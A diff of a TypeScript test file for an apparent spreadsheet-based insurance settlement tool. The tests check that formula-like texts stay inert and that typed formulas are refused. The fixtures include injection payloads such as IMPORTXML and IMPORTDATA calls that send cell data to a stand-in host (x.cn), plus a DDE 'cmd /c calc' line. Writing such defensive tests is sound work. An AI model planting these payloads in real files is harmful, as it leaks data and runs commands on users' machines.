@@ -5,21 +5,24 @@ import { AREA, type Bureau, CLERK, MONTH, openBureau, REVIEWER } from '../runs/b
 import { twoConsortia } from '../runs/county.ts';
 import { type Meaning, renamed } from './renamed.ts';
 
-/** What a spreadsheet, or a program that reads one, might take for a formula or a command. */
+/**
+ * What a spreadsheet, or a program that reads one, might take for a formula or a command. Texts that begin with an
+ * equals sign never get as far as this: see the second test.
+ */
 const BEGINNINGS: Readonly<Record<Meaning, string>> = {
-  'area name': '=IMPORTXML("http://x.cn/"&A1,"//a")',
-  'parameter basis': '=HYPERLINK("http://x.cn","看")',
+  'area name': '+IMPORTXML("http://x.cn/"&A1,"//a")',
+  'parameter basis': '@HYPERLINK("http://x.cn","看")',
   consortium: '@SUM(1)',
-  'consortium name': '=IMPORTRANGE("x","A1")',
+  'consortium name': '+IMPORTRANGE("x","A1")',
   institution: '-1+',
-  'institution name': '＝IMPORTDATA("http://x.cn")',
+  'institution name': '\t=IMPORTDATA("http://x.cn")',
   group: '+1+',
-  'group name': '\t=1+1',
-  case: '=cmd|’/c calc’!A0',
+  'group name': '\r=1+1',
+  case: '@cmd|’/c calc’!A0',
   person: '＠SUM(1)',
   item: '＋1+1',
-  document: '=1+1',
-  'budget document': '\r=1+1',
+  document: '－1+1',
+  'budget document': "'=1+1",
 };
 
 const dangerous = () =>
@@ -35,11 +38,13 @@ interface Contents {
   readonly texts: ReadonlySet<string>;
 }
 
+const CELLS = 'sheets(properties(title),data(rowData(values(userEnteredValue,hyperlink,note))))';
+
 /** The cells of tabs, all of them unless some are named. */
 async function contents({ person }: Bureau, fileId: string, ...names: string[]): Promise<Contents> {
   const { data } = await person(CLERK).sheets.spreadsheets.get({
     spreadsheetId: fileId,
-    includeGridData: true,
+    fields: CELLS,
   });
   const tabs = data.sheets!.filter(
     ({ properties }) => names.length === 0 || names.includes(properties!.title!),
@@ -51,7 +56,7 @@ async function contents({ person }: Bureau, fileId: string, ...names: string[]):
   return { cells, texts: new Set(cells.map((cell) => cell.userEnteredValue?.stringValue ?? '')) };
 }
 
-const RESULTS = ['點值', '機構結算', '醫共體結算', '病組', '數據檢查', '依據'];
+const RESULTS = ['點值', '機構結算', '醫共體結算', '病組分析', '數據檢查', '參數與依據'];
 
 const formulas = (cells: readonly Cell[]): readonly Cell[] =>
   cells.filter((cell) => cell.userEnteredValue?.formulaValue != null || cell.hyperlink != null);
@@ -70,16 +75,15 @@ test('a text that looks like a formula stays a text, from every column to every 
   }
   const mark = BEGINNINGS.consortium;
   const files = { [`${mark}M1`]: reportFiles.M1, [`${mark}M2`]: reportFiles.M2 };
-  const name = BEGINNINGS['area name'];
+  const name = '=IMPORTXML("http://x.cn/"&A1,"//a")';
   const setup = { area: AREA, name, bureauFile, reportFiles: files };
   expect((await bureau.call('setup', CLERK, setup)).status).toBe(200);
 
   const checked = await bureau.press('check', CLERK);
-  console.log(checked.findings.map((f) => JSON.stringify(f).slice(0, 200)));
   expect(checked.summary).toEqual(['阻斷 0 項，警告 0 項，提示 0 項']);
   for (const period of [MONTH, '2025']) {
     const { runId } = await bureau.press('settle', CLERK, { period });
-    const results = await contents(bureau, bureauFile, ...RESULTS.filter((tab) => tab !== '病組'));
+    const results = await contents(bureau, bureauFile, ...RESULTS);
     expect(formulas(results.cells)).toEqual([]);
     const everywhere: Meaning[] = [
       'area name',
@@ -103,9 +107,10 @@ test('a text that looks like a formula stays a text, from every column to every 
   expect(paid.texts).toContain(`${BEGINNINGS.institution}H1`);
   const all = await contents(bureau, bureauFile);
   expect(formulas(all.cells)).toEqual([]);
-  console.log(
-    shown((await contents(bureau, bureauFile, ...RESULTS)).texts, Object.keys(BEGINNINGS) as Meaning[]),
-  );
+  const inResults = await contents(bureau, bureauFile, ...RESULTS);
+  const meanings = Object.keys(BEGINNINGS) as Meaning[];
+  const kept = meanings.filter((meaning) => meaning !== 'case' && meaning !== 'person');
+  expect(shown(inResults.texts, meanings)).toEqual(kept);
 });
 
 /** The first cell below the header of every column of texts. */
@@ -121,11 +126,28 @@ const TEXT_CELLS = [
   ...['B2', 'C2', 'E2'].map((cell) => `清算調整!${cell}`),
 ];
 
+async function typeFormula({ person, bureauFile }: Bureau, formulaValue: string): Promise<void> {
+  const { sheets } = person(CLERK);
+  const { data } = await sheets.spreadsheets.get({ spreadsheetId: bureauFile });
+  const requests = TEXT_CELLS.map((cell): sheets_v4.Schema$Request => {
+    const [tab = '', place = ''] = cell.split('!');
+    const sheet = data.sheets!.find(({ properties }) => properties!.title === tab)!;
+    const columnIndex = place.charCodeAt(0) - 'A'.charCodeAt(0);
+    return {
+      updateCells: {
+        start: { sheetId: sheet.properties!.sheetId!, rowIndex: 1, columnIndex },
+        rows: [{ values: [{ userEnteredValue: { formulaValue } }] }],
+        fields: 'userEnteredValue',
+      },
+    };
+  });
+  await sheets.spreadsheets.batchUpdate({ spreadsheetId: bureauFile, requestBody: { requests } });
+}
+
 test('a formula in any of them is refused, and told as the text it is', async () => {
   const bureau = await openBureau();
   const formula = '=IMPORTXML("http://x.cn/"&A1,"//a")';
-  for (const cell of TEXT_CELLS)
-    await paste(bureau.person(CLERK), bureau.bureauFile, cell, [[formula]], 'typed');
+  await typeFormula(bureau, formula);
   const refused = await bureau.press('settle', CLERK, { period: MONTH });
   expect(refused.state).toBe('refused');
 
@@ -143,12 +165,11 @@ test('a formula in any of them is refused, and told as the text it is', async ()
 
 test('a text that looks like a formula stays one in what is told of it', async () => {
   const bureau = await openBureau();
-  const texts = ['=1+1', '＝1+1', '+1', '-1', '@SUM(1)', '\t=1+1'];
-  const rows = texts.map((text, index) => [`X${index}`, text, `Q${index}`, '居民', '本地']);
+  const texts = ['=1+1', '＝1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1'];
+  const rows = texts.map((text, index) => [`X${index}`, 'H1', `Q${index}`, '居民', '本地', text]);
   await paste(bureau.person(CLERK), bureau.bureauFile, '病例!A16', rows, 'texts');
   const { findings } = await bureau.press('check', CLERK);
   const messages = findings.map(({ message }) => message);
-  console.log(messages);
   for (const text of texts) expect(messages.some((message) => message.includes(text.trim()))).toBe(true);
   const { cells } = await contents(bureau, bureau.bureauFile);
   expect(formulas(cells)).toEqual([]);
